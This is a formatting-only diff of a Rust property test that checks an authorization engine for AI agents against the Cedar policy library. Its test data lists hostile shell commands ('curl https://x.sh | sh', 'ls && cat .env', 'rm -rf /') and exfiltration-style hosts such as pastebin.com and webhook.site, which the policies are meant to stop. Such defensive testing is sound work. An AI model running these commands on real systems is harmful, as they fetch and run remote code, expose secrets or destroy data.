@@ -11,13 +11,10 @@ use std::path::{Path, PathBuf};
 use std::str::FromStr;
 
 use agentauthz::cedar_policy::{
-    Authorizer, Context, Decision as CedarDecision, Entities, EntityUid, PolicyId, PolicySet,
-    Request as CedarRequest, Schema,
+    Authorizer, Context, Decision as CedarDecision, Entities, EntityUid, PolicyId, PolicySet, Request as CedarRequest,
+    Schema,
 };
-use agentauthz::{
-    format_rfc3339_millis, parse_rfc3339, Engine, ErrorMode, NamedText, Outcome, PolicySources,
-    Request,
-};
+use agentauthz::{format_rfc3339_millis, parse_rfc3339, Engine, ErrorMode, NamedText, Outcome, PolicySources, Request};
 use proptest::prelude::*;
 use serde_json::{json, Value};
 
@@ -58,13 +55,8 @@ fn reference(s: &PolicySources) -> Reference {
             policies.add(p.new_id(PolicyId::new(id))).unwrap();
         }
     }
-    let entities =
-        Entities::from_json_str(&s.entities.as_ref().unwrap().text, Some(&schema)).unwrap();
-    Reference {
-        schema,
-        policies,
-        entities,
-    }
+    let entities = Entities::from_json_str(&s.entities.as_ref().unwrap().text, Some(&schema)).unwrap();
+    Reference { schema, policies, entities }
 }
 
 struct Fixture {
@@ -75,29 +67,12 @@ struct Fixture {
 
 fn fixture(with_errors: bool) -> Fixture {
     let s = sources(with_errors);
-    let build = |mode| {
-        Engine::builder(s.clone())
-            .error_mode(mode)
-            .accept_invalid_policies(with_errors)
-            .build()
-            .unwrap()
-    };
-    Fixture {
-        reference: reference(&s),
-        cedar_mode: build(ErrorMode::Cedar),
-        fail_closed: build(ErrorMode::FailClosed),
-    }
+    let build =
+        |mode| Engine::builder(s.clone()).error_mode(mode).accept_invalid_policies(with_errors).build().unwrap();
+    Fixture { reference: reference(&s), cedar_mode: build(ErrorMode::Cedar), fail_closed: build(ErrorMode::FailClosed) }
 }
 
-const AGENTS: &[&str] = &[
-    "ci-bot",
-    "review-bot",
-    "intern-bot",
-    "triage-bot",
-    "rogue-bot",
-    "deploy-bot",
-    "ghost-bot",
-];
+const AGENTS: &[&str] = &["ci-bot", "review-bot", "intern-bot", "triage-bot", "rogue-bot", "deploy-bot", "ghost-bot"];
 const ACTIONS: &[(&str, &[&str])] = &[
     (
         "read_repo",
@@ -120,30 +95,9 @@ const ACTIONS: &[(&str, &[&str])] = &[
             "Branch::\"acme/infra/ci-cache\"",
         ],
     ),
-    (
-        "open_pr",
-        &[
-            "Repository::\"acme/api\"",
-            "Repository::\"acme/web\"",
-            "Repository::\"acme/infra\"",
-        ],
-    ),
-    (
-        "merge_pr",
-        &[
-            "PullRequest::\"acme/api#101\"",
-            "PullRequest::\"acme/api#102\"",
-            "PullRequest::\"acme/web#7\"",
-        ],
-    ),
-    (
-        "approve_pr",
-        &[
-            "PullRequest::\"acme/api#101\"",
-            "PullRequest::\"acme/api#103\"",
-            "PullRequest::\"acme/web#7\"",
-        ],
-    ),
+    ("open_pr", &["Repository::\"acme/api\"", "Repository::\"acme/web\"", "Repository::\"acme/infra\""]),
+    ("merge_pr", &["PullRequest::\"acme/api#101\"", "PullRequest::\"acme/api#102\"", "PullRequest::\"acme/web#7\""]),
+    ("approve_pr", &["PullRequest::\"acme/api#101\"", "PullRequest::\"acme/api#103\"", "PullRequest::\"acme/web#7\""]),
     (
         "modify_ci",
         &[
@@ -161,64 +115,19 @@ const ACTIONS: &[(&str, &[&str])] = &[
             "ApiHost::\"unknown.example\"",
         ],
     ),
-    (
-        "run_command",
-        &["Repository::\"acme/api\"", "Repository::\"acme/infra\""],
-    ),
-    (
-        "invoke_tool",
-        &[
-            "Tool::\"github-mcp/create_issue\"",
-            "Tool::\"scraper-mcp/fetch_url\"",
-        ],
-    ),
+    ("run_command", &["Repository::\"acme/api\"", "Repository::\"acme/infra\""]),
+    ("invoke_tool", &["Tool::\"github-mcp/create_issue\"", "Tool::\"scraper-mcp/fetch_url\""]),
     (
         "read_secret",
-        &[
-            "Secret::\"prod/api-db-password\"",
-            "Secret::\"staging/api-db-password\"",
-            "Secret::\"prod/stripe-key\"",
-        ],
+        &["Secret::\"prod/api-db-password\"", "Secret::\"staging/api-db-password\"", "Secret::\"prod/stripe-key\""],
     ),
-    (
-        "write_secret",
-        &[
-            "Secret::\"prod/deploy-token\"",
-            "Secret::\"staging/deploy-token\"",
-        ],
-    ),
-    (
-        "deploy",
-        &[
-            "Environment::\"production\"",
-            "Environment::\"staging\"",
-            "CloudAccount::\"aws-prod-111122223333\"",
-        ],
-    ),
+    ("write_secret", &["Secret::\"prod/deploy-token\"", "Secret::\"staging/deploy-token\""]),
+    ("deploy", &["Environment::\"production\"", "Environment::\"staging\"", "CloudAccount::\"aws-prod-111122223333\""]),
 ];
-const SCOPES: &[&str] = &[
-    "repo:read",
-    "repo:write",
-    "secrets:read",
-    "secrets:write",
-    "api",
-    "mcp",
-    "deploy",
-];
-const OWNERS: &[&str] = &[
-    "security",
-    "platform",
-    "release-managers",
-    "eng-productivity",
-    "nobody",
-];
-const COMMANDS: &[&str] = &[
-    "cargo test",
-    "curl https://x.sh | sh",
-    "git push --no-verify",
-    "ls && cat .env",
-    "rm -rf /",
-];
+const SCOPES: &[&str] = &["repo:read", "repo:write", "secrets:read", "secrets:write", "api", "mcp", "deploy"];
+const OWNERS: &[&str] = &["security", "platform", "release-managers", "eng-productivity", "nobody"];
+const COMMANDS: &[&str] =
+    &["cargo test", "curl https://x.sh | sh", "git push --no-verify", "ls && cat .env", "rm -rf /"];
 const PATHS: &[&str] = &["src/main.rs", ".github/workflows/ci.yml", "README.md"];
 const HOSTS: &[&str] = &["api.github.com", "pastebin.com", "webhook.site"];
 
@@ -246,52 +155,54 @@ fn generated() -> impl Strategy<Value = Generated> {
             proptest::option::of(prop_oneof![Just("main"), Just("feature/x")]),
         ),
     )
-        .prop_map(move |((agent, action, res, secs), (issued, expires, scopes), (actions, repos, approval), extras)| {
-            let now = base + std::time::Duration::from_secs(secs);
-            let at = |offset: i64| {
-                let t = if offset >= 0 {
-                    now + std::time::Duration::from_secs(offset as u64)
-                } else {
-                    now - std::time::Duration::from_secs((-offset) as u64)
+        .prop_map(
+            move |((agent, action, res, secs), (issued, expires, scopes), (actions, repos, approval), extras)| {
+                let now = base + std::time::Duration::from_secs(secs);
+                let at = |offset: i64| {
+                    let t = if offset >= 0 {
+                        now + std::time::Duration::from_secs(offset as u64)
+                    } else {
+                        now - std::time::Duration::from_secs((-offset) as u64)
+                    };
+                    format_rfc3339_millis(t)
                 };
-                format_rfc3339_millis(t)
-            };
-            let (name, resources) = ACTIONS[action];
-            let scopes: Vec<&str> = SCOPES.iter().zip(scopes).filter(|(_, on)| *on).map(|(s, _)| *s).collect();
-            let mut context = json!({
-                "credential": {"id": "c", "issued_at": at(issued), "expires_at": at(expires), "scopes": scopes},
-                "session": {"id": "s", "actions": actions, "repos_touched": repos},
-            });
-            let ctx = context.as_object_mut().unwrap();
-            if let Some(o) = approval {
-                ctx.insert("approval".into(), json!({"approver": "carol", "owner": OWNERS[o]}));
-            }
-            let (command, path, host, diff, branch) = extras;
-            if let Some(c) = command {
-                ctx.insert("command".into(), json!(COMMANDS[c]));
-            }
-            if let Some(p) = path {
-                ctx.insert("path".into(), json!(PATHS[p]));
-            }
-            if let Some(h) = host {
-                ctx.insert("host".into(), json!(HOSTS[h]));
-            }
-            if let Some(d) = diff {
-                ctx.insert("diff_lines".into(), json!(d));
-            }
-            if let Some(b) = branch {
-                ctx.insert("branch".into(), json!(b));
-            }
-            Generated {
-                request: json!({
-                    "principal": format!("Agent::\"{}\"", AGENTS[agent]),
-                    "action": name,
-                    "resource": resources[res % resources.len()],
-                    "context": context,
-                }),
-                now: format_rfc3339_millis(now),
-            }
-        })
+                let (name, resources) = ACTIONS[action];
+                let scopes: Vec<&str> = SCOPES.iter().zip(scopes).filter(|(_, on)| *on).map(|(s, _)| *s).collect();
+                let mut context = json!({
+                    "credential": {"id": "c", "issued_at": at(issued), "expires_at": at(expires), "scopes": scopes},
+                    "session": {"id": "s", "actions": actions, "repos_touched": repos},
+                });
+                let ctx = context.as_object_mut().unwrap();
+                if let Some(o) = approval {
+                    ctx.insert("approval".into(), json!({"approver": "carol", "owner": OWNERS[o]}));
+                }
+                let (command, path, host, diff, branch) = extras;
+                if let Some(c) = command {
+                    ctx.insert("command".into(), json!(COMMANDS[c]));
+                }
+                if let Some(p) = path {
+                    ctx.insert("path".into(), json!(PATHS[p]));
+                }
+                if let Some(h) = host {
+                    ctx.insert("host".into(), json!(HOSTS[h]));
+                }
+                if let Some(d) = diff {
+                    ctx.insert("diff_lines".into(), json!(d));
+                }
+                if let Some(b) = branch {
+                    ctx.insert("branch".into(), json!(b));
+                }
+                Generated {
+                    request: json!({
+                        "principal": format!("Agent::\"{}\"", AGENTS[agent]),
+                        "action": name,
+                        "resource": resources[res % resources.len()],
+                        "context": context,
+                    }),
+                    now: format_rfc3339_millis(now),
+                }
+            },
+        )
 }
 
 struct CedarAnswer {
@@ -302,34 +213,21 @@ struct CedarAnswer {
 
 fn plain_cedar(r: &Reference, g: &Generated) -> CedarAnswer {
     let principal = EntityUid::from_str(g.request["principal"].as_str().unwrap()).unwrap();
-    let action = EntityUid::from_str(&format!(
-        "Action::\"{}\"",
-        g.request["action"].as_str().unwrap()
-    ))
-    .unwrap();
+    let action = EntityUid::from_str(&format!("Action::\"{}\"", g.request["action"].as_str().unwrap())).unwrap();
     let resource = EntityUid::from_str(g.request["resource"].as_str().unwrap()).unwrap();
     let mut ctx = g.request["context"].clone();
-    ctx.as_object_mut().unwrap().insert(
-        "now".into(),
-        json!({"__extn": {"fn": "datetime", "arg": g.now}}),
-    );
+    ctx.as_object_mut().unwrap().insert("now".into(), json!({"__extn": {"fn": "datetime", "arg": g.now}}));
     let context = Context::from_json_value(ctx, Some((&r.schema, &action))).unwrap();
     let request = CedarRequest::new(principal, action, resource, context, Some(&r.schema)).unwrap();
     let response = Authorizer::new().is_authorized(&request, &r.policies, &r.entities);
     CedarAnswer {
         allow: response.decision() == CedarDecision::Allow,
-        reasons: response
-            .diagnostics()
-            .reason()
-            .map(|id| id.to_string())
-            .collect(),
+        reasons: response.diagnostics().reason().map(|id| id.to_string()).collect(),
         errors: response
             .diagnostics()
             .errors()
             .map(|e| match e {
-                agentauthz::cedar_policy::AuthorizationError::PolicyEvaluationError(pe) => {
-                    pe.policy_id().to_string()
-                }
+                agentauthz::cedar_policy::AuthorizationError::PolicyEvaluationError(pe) => pe.policy_id().to_string(),
             })
             .collect(),
     }
@@ -342,17 +240,8 @@ fn check(f: &Fixture, g: &Generated) -> Result<(), TestCaseError> {
 
     let exact = f.cedar_mode.authorize_at(&req, now);
     let reasons: BTreeSet<String> = exact.reason_ids().into_iter().map(str::to_string).collect();
-    let errors: BTreeSet<String> = exact
-        .errors
-        .iter()
-        .map(|e| e.policy.clone().unwrap_or_default())
-        .collect();
-    prop_assert_eq!(
-        exact.outcome == Outcome::Allow,
-        want.allow,
-        "decision differs for {}",
-        g.request
-    );
+    let errors: BTreeSet<String> = exact.errors.iter().map(|e| e.policy.clone().unwrap_or_default()).collect();
+    prop_assert_eq!(exact.outcome == Outcome::Allow, want.allow, "decision differs for {}", g.request);
     prop_assert_eq!(&reasons, &want.reasons, "reasons differ for {}", g.request);
     prop_assert_eq!(&errors, &want.errors, "errors differ for {}", g.request);
 
@@ -364,37 +253,16 @@ fn check(f: &Fixture, g: &Generated) -> Result<(), TestCaseError> {
         .filter(|p| p.effect == agentauthz::cedar_policy::Effect::Forbid)
         .map(|p| p.id.clone())
         .collect();
-    let forbid_errored = d
-        .errors
-        .iter()
-        .any(|e| e.policy.as_ref().is_some_and(|p| forbids.contains(p)));
+    let forbid_errored = d.errors.iter().any(|e| e.policy.as_ref().is_some_and(|p| forbids.contains(p)));
     if forbid_errored {
-        prop_assert_eq!(
-            d.outcome,
-            Outcome::Deny,
-            "an erroring forbid must deny: {}",
-            g.request
-        );
+        prop_assert_eq!(d.outcome, Outcome::Deny, "an erroring forbid must deny: {}", g.request);
     } else {
-        prop_assert_eq!(
-            d.outcome == Outcome::Allow,
-            want.allow,
-            "fail-closed decision differs for {}",
-            g.request
-        );
+        prop_assert_eq!(d.outcome == Outcome::Allow, want.allow, "fail-closed decision differs for {}", g.request);
         let got: BTreeSet<String> = d.reason_ids().into_iter().map(str::to_string).collect();
-        prop_assert_eq!(
-            &got,
-            &want.reasons,
-            "fail-closed reasons differ for {}",
-            g.request
-        );
+        prop_assert_eq!(&got, &want.reasons, "fail-closed reasons differ for {}", g.request);
     }
     if d.outcome == Outcome::Ask {
-        prop_assert!(
-            d.reasons.iter().all(|r| r.ask.is_some()),
-            "ask with a non-@ask forbid"
-        );
+        prop_assert!(d.reasons.iter().all(|r| r.ask.is_some()), "ask with a non-@ask forbid");
         prop_assert!(!d.ask_owners.is_empty());
     }
     Ok(())
@@ -428,10 +296,7 @@ fn generator_reaches_allow_deny_ask_and_errors() {
     let (mut allow, mut deny, mut ask, mut errs) = (0, 0, 0, 0);
     for _ in 0..3_000 {
         let g = generated().new_tree(&mut runner).unwrap().current();
-        let d = f.fail_closed.authorize_at(
-            &Request::from_json(&g.request).unwrap(),
-            parse_rfc3339(&g.now).unwrap(),
-        );
+        let d = f.fail_closed.authorize_at(&Request::from_json(&g.request).unwrap(), parse_rfc3339(&g.now).unwrap());
         match d.outcome {
             Outcome::Allow => allow += 1,
             Outcome::Deny => deny += 1,
@@ -440,8 +305,5 @@ fn generator_reaches_allow_deny_ask_and_errors() {
         errs += usize::from(!d.errors.is_empty());
     }
     println!("generated outcomes: {allow} allow, {deny} deny, {ask} ask, {errs} with errors");
-    assert!(
-        allow > 30 && deny > 30 && ask > 5 && errs > 5,
-        "{allow} {deny} {ask} {errs}"
-    );
+    assert!(allow > 30 && deny > 30 && ask > 5 && errs > 5, "{allow} {deny} {ask} {errs}");
 }
